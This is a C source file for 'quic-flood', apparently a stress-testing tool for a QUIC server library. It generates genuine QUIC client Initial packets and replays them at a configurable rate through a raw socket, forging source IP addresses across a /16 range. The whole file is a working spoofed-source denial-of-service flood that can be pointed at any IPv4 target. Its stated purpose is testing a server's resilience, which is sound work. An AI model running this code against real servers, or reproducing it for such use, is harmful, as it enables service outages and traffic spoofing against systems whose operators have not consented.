/* quic-flood: a flood of valid QUIC Initial packets from spoofed source addresses, for the tests
 * of a server's memory under attack. It makes --count real client Initials (each a new
 * connection attempt with its own DCID and TLS ClientHello) by connecting with the QUIC runtime
 * to a UDP socket of its own and keeping what arrives, then sends each of them --repeat times
 * through a raw socket (IP_HDRINCL, root only), every copy from another source address of the
 * --sources /16 and a random port, at most --pps per second. Prints one JSON line. */
#include <arpa/inet.h>
#include <errno.h>
#include <inttypes.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <gnutls/crypto.h>
#include <uv.h>

#include "turnpike/quic.h"

#define MAX_INITIALS 20000
#define PKT_MAX      1500

typedef struct capture {
    uv_loop_t loop;
    tp_quic_endpoint_t *ep;
    int fd;
    uv_poll_t poll;
    uv_timer_t deadline;
    uint8_t (*pkts)[PKT_MAX];
    size_t *lens;
    size_t want, got;
} capture_t;

static void usage(void) {
    fprintf(stderr,
            "usage: quic-flood --target IPv4:PORT --sources A.B.0.0 [--count N] [--repeat R]\n"
            "                  [--pps P] [--sni NAME] [--alpn ALPN]\n");
}

static void on_stream_data(tp_quic_conn_t *c, int64_t id, const uint8_t *d, size_t n, bool fin,
                           void *sd) {
    (void)c, (void)id, (void)d, (void)n, (void)fin, (void)sd;
}

static const tp_quic_app_t app = {.on_stream_data = on_stream_data};

static void stop_capture(capture_t *cap) {
    uv_poll_stop(&cap->poll);
    uv_timer_stop(&cap->deadline);
    uv_close((uv_handle_t *)&cap->poll, NULL);
    uv_close((uv_handle_t *)&cap->deadline, NULL);
    tp_quic_endpoint_close(cap->ep, NULL, NULL);
}

static void on_captured(uv_poll_t *p, int status, int events) {
    capture_t *cap = p->data;
    (void)status, (void)events;
    while (cap->got < cap->want) {
        ssize_t n = recv(cap->fd, cap->pkts[cap->got], PKT_MAX, MSG_DONTWAIT);
        if (n < 0) {
            return;
        }
        /* Only first Initials (long header, type 0): at least 1200 bytes, padded by the client. */
        if (n >= 1200 && (cap->pkts[cap->got][0] & 0xf0) == 0xc0) {
            cap->lens[cap->got++] = (size_t)n;
        }
    }
    stop_capture(cap);
}

static void on_deadline(uv_timer_t *t) { stop_capture(t->data); }

/* Makes `want` distinct client Initials. Returns how many it got. */
static size_t make_initials(capture_t *cap, const char *sni, const char *alpn) {
    uv_loop_init(&cap->loop);
    cap->fd = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
    int big = 16 << 20;
    setsockopt(cap->fd, SOL_SOCKET, SO_RCVBUF, &big, sizeof(big));
    struct sockaddr_in sin = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t len = sizeof(sin);
    if (bind(cap->fd, (struct sockaddr *)&sin, sizeof(sin)) != 0 ||
        getsockname(cap->fd, (struct sockaddr *)&sin, &len) != 0) {
        return 0;
    }
    tp_addr_t to;
    memset(&to, 0, sizeof(to));
    memcpy(&to.u.in, &sin, sizeof(sin));
    tp_addr_t bind_addr;
    tp_addr_parse(&bind_addr, "127.0.0.1:0", false);
    tp_quic_settings_t qs;
    tp_quic_settings_default(&qs);
    qs.alpn = alpn;
    qs.insecure_skip_verify = true;
    if (tp_quic_endpoint_new(&cap->ep, &cap->loop, &bind_addr, false, &qs, &app, NULL) != 0) {
        return 0;
    }
    uv_poll_init(&cap->loop, &cap->poll, cap->fd);
    cap->poll.data = cap;
    uv_poll_start(&cap->poll, UV_READABLE, on_captured);
    uv_timer_init(&cap->loop, &cap->deadline);
    cap->deadline.data = cap;
    uv_timer_start(&cap->deadline, on_deadline, 30000, 0);
    /* A few hundred at a time, so the capture socket keeps up. */
    for (size_t i = 0; i < cap->want; i++) {
        if (tp_quic_connect(cap->ep, &to, sni, NULL, NULL) != 0) {
            break;
        }
        if (i % 256 == 255) {
            uv_run(&cap->loop, UV_RUN_NOWAIT);
        }
    }
    uv_run(&cap->loop, UV_RUN_DEFAULT);
    uv_loop_close(&cap->loop);
    close(cap->fd);
    return cap->got;
}

static uint16_t csum16(const void *data, size_t len) {
    const uint8_t *p = data;
    uint32_t sum = 0;
    for (size_t i = 0; i + 1 < len; i += 2) {
        sum += (uint32_t)(p[i] << 8 | p[i + 1]);
    }
    if (len & 1) {
        sum += (uint32_t)p[len - 1] << 8;
    }
    while (sum >> 16) {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    return (uint16_t)~sum;
}

int main(int argc, char **argv) {
    const char *target_s = NULL;
    const char *sources_s = NULL;
    const char *sni = "localhost";
    const char *alpn = "h3";
    size_t count = 1000;
    size_t repeat = 10;
    uint64_t pps = 20000;
    for (int i = 1; i + 1 < argc; i += 2) {
        const char *a = argv[i];
        const char *v = argv[i + 1];
        if (!strcmp(a, "--target")) {
            target_s = v;
        } else if (!strcmp(a, "--sources")) {
            sources_s = v;
        } else if (!strcmp(a, "--count")) {
            count = strtoul(v, NULL, 10);
        } else if (!strcmp(a, "--repeat")) {
            repeat = strtoul(v, NULL, 10);
        } else if (!strcmp(a, "--pps")) {
            pps = strtoull(v, NULL, 10);
        } else if (!strcmp(a, "--sni")) {
            sni = v;
        } else if (!strcmp(a, "--alpn")) {
            alpn = v;
        } else {
            usage();
            return 2;
        }
    }
    tp_addr_t target;
    struct in_addr sources;
    if (!target_s || !sources_s || tp_addr_parse(&target, target_s, false) != 0 ||
        target.u.sa.sa_family != AF_INET || inet_pton(AF_INET, sources_s, &sources) != 1 ||
        count == 0 || count > MAX_INITIALS || pps == 0) {
        usage();
        return 2;
    }
    capture_t cap;
    memset(&cap, 0, sizeof(cap));
    cap.want = count;
    cap.pkts = calloc(count, PKT_MAX);
    cap.lens = calloc(count, sizeof(size_t));
    size_t made = cap.pkts && cap.lens ? make_initials(&cap, sni, alpn) : 0;
    if (made == 0) {
        printf("{\"ok\":false,\"error\":\"no Initial captured\"}\n");
        free(cap.pkts);
        free(cap.lens);
        return 1;
    }
    int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW); /* IPPROTO_RAW implies IP_HDRINCL */
    if (raw < 0) {
        printf("{\"ok\":false,\"error\":\"raw socket: %s\"}\n", strerror(errno));
        free(cap.pkts);
        free(cap.lens);
        return 1;
    }
    uint32_t base = ntohl(sources.s_addr) & 0xffff0000u;
    uint8_t pkt[20 + 8 + PKT_MAX];
    struct timespec t0;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    uint64_t sent = 0;
    uint64_t failed = 0;
    uint64_t total = (uint64_t)made * repeat;
    for (uint64_t i = 0; i < total; i++) {
        const uint8_t *q = cap.pkts[i % made];
        size_t qlen = cap.lens[i % made];
        uint16_t rnd;
        (void)gnutls_rnd(GNUTLS_RND_NONCE, &rnd, sizeof(rnd));
        /* Source: base + 1 .. base + 65534, a new one for every packet (wrapping). */
        uint32_t src = base | (uint32_t)(1 + i % 65534);
        struct iphdr *ip = (struct iphdr *)pkt;
        memset(ip, 0, sizeof(*ip));
        ip->version = 4;
        ip->ihl = 5;
        ip->ttl = 64;
        ip->protocol = IPPROTO_UDP;
        ip->tot_len = htons((uint16_t)(20 + 8 + qlen));
        ip->saddr = htonl(src);
        ip->daddr = target.u.in.sin_addr.s_addr;
        ip->check = csum16(ip, 20);
        struct udphdr *udp = (struct udphdr *)(pkt + 20);
        udp->source = htons((uint16_t)(1024 + rnd % 60000));
        udp->dest = target.u.in.sin_port;
        udp->len = htons((uint16_t)(8 + qlen));
        udp->check = 0; /* optional over IPv4 */
        memcpy(pkt + 28, q, qlen);
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = target.u.in.sin_addr};
        if (sendto(raw, pkt, 28 + qlen, 0, (struct sockaddr *)&to, sizeof(to)) < 0) {
            failed++;
        } else {
            sent++;
        }
        /* Pace: packet i leaves no earlier than i / pps seconds after the start. */
        if (i % 64 == 63) {
            struct timespec now;
            clock_gettime(CLOCK_MONOTONIC, &now);
            double elapsed =
                (double)(now.tv_sec - t0.tv_sec) + (double)(now.tv_nsec - t0.tv_nsec) / 1e9;
            double due = (double)(i + 1) / (double)pps;
            if (due > elapsed) {
                double d = due - elapsed;
                struct timespec ts = {.tv_sec = (time_t)d,
                                      .tv_nsec = (long)((d - (double)(time_t)d) * 1e9)};
                nanosleep(&ts, NULL);
            }
        }
    }
    struct timespec t1;
    clock_gettime(CLOCK_MONOTONIC, &t1);
    double secs = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
    printf("{\"ok\":%s,\"initials\":%zu,\"sent\":%" PRIu64 ",\"failed\":%" PRIu64
           ",\"seconds\":%.3f}\n",
           sent > 0 ? "true" : "false", made, sent, failed, secs);
    close(raw);
    free(cap.pkts);
    free(cap.lens);
    return sent > 0 ? 0 : 1;
}
